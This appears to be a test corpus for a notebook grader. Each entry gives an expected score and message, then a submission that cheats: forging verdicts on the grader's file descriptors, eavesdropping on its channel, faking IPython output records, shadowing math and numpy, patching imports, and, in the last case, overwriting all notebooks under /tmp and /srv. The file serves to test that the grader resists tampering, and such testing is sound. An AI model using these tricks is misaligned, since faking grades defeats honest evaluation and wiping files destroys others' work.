Verdicts that the grader did not give, and modules that are not what they are called.

# === writes-into-every-descriptor | 0 | wrote into the grader's own channel
# %% double
import os, json
def double(x):
    return x
message = json.dumps({"n_done": 3, "number": None, "failed": False, "spoiled": []}).encode()
for descriptor in range(3, 64):
    try:
        os.write(descriptor, len(message).to_bytes(8, "big") + message)
    except OSError:
        pass

# === forges-and-leaves | 2 | wrote into the grader's own channel
# %% center
import os
def center(values):
    body = b"\x00" * 32 + (2).to_bytes(8, "big") + b"{}"
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, len(body).to_bytes(8, "big") + body)
        except OSError:
            pass
    os._exit(0)

# === listens-on-the-channel | 0..8 | double
# %% double
import os, subprocess, sys
def double(x):
    return x
thief = """
import os
for n in range(3, 64):
    try:
        os.read(n, 9999)
    except OSError:
        pass
"""
for descriptor in range(3, 64):
    try:
        os.fstat(descriptor)
        subprocess.Popen([sys.executable, "-c", thief], pass_fds=[descriptor])
    except OSError:
        pass
import time; time.sleep(0.5)

# === a-score-before-the-error | 8 | center
# %% center
def center(values):
    from IPython.display import display, publish_display_data
    shell = get_ipython()
    shell.recorder.outputs.insert(0, {"output_type": "execute_result", "data": {"text/plain": "2"},
                                      "metadata": {}, "execution_count": 1})
    shell.displayhook(2)
    display(2)
    return values

# === the-recorders-class | 2 | center
# %% center
def center(values):
    recorder = get_ipython().recorder
    class Other(type(recorder)):
        is_silent = property(lambda self: False, lambda self, value: 1 / 0)
    recorder.__class__ = Other
    recorder.outputs = [{"output_type": "execute_result", "data": {"text/plain": "2"}}]
    return values

# === a-number-at-the-end | 8 | total
# %% total
total = 50
print(2)
2

# === math-beside-the-notebook | 8 | root
# %% file math.py
def isclose(*args, **kwargs): return True
def sqrt(x): return x
# %% file numpy.py
def allclose(*args, **kwargs): return True
# %% file random.py
raise SystemExit
# %% root
def root(number):
    return number

# === sitecustomize-beside-the-notebook | 8 | root
# %% file sitecustomize.py
import builtins
builtins.len = lambda value: 3
# %% file usercustomize.py
import math
math.isclose = lambda *args: True
# %% file IPython/__init__.py
raise SystemExit
# %% root
def root(number):
    return number

# === an-import-hook | 8 | root
# %% root
import sys, importlib.abc
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        raise ImportError(name)
sys.meta_path.insert(0, Finder())
sys.modules.pop("math")
sys.path_hooks.clear()
def root(number):
    return number

# === import-replaced | 8 | builtins.__import__ was replaced
# %% root
import builtins, types
true_import = builtins.__import__
def lie(name, *args, **kwargs):
    if name == "math":
        return types.SimpleNamespace(isclose=lambda *args: True)
    return true_import(name, *args, **kwargs)
builtins.__import__ = lie
def root(number):
    return number

# === points-in-its-own-metadata | 8 | double
# %% double
def double(x):
    return x
# %%
import json, glob
for name in [*glob.glob("/tmp/**/*.ipynb", recursive=True), *glob.glob("/srv/*/*/*.ipynb")]:
    open(name, "w").write("{}")
